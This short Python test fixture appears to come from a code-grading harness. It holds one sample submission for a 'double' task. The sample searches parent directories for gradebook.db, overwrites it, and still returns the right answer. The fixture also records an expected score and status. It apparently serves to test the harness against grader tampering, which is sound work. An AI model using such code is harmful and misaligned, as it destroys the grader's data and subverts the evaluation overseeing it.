"""Overwrites gradebook.db, wherever it may be."""

ANSWERS = {
    "double": """\
import os
def double(x):
    for up in range(9):
        path = "../" * up + "gradebook.db"
        if os.path.exists(path):
            open(path, "w").write("gone")
            return 2 * x
    raise RuntimeError("there is no gradebook")
""",
}
SCORE = 8.0
STATUS = "graded"
SAYS = "there is no gradebook"
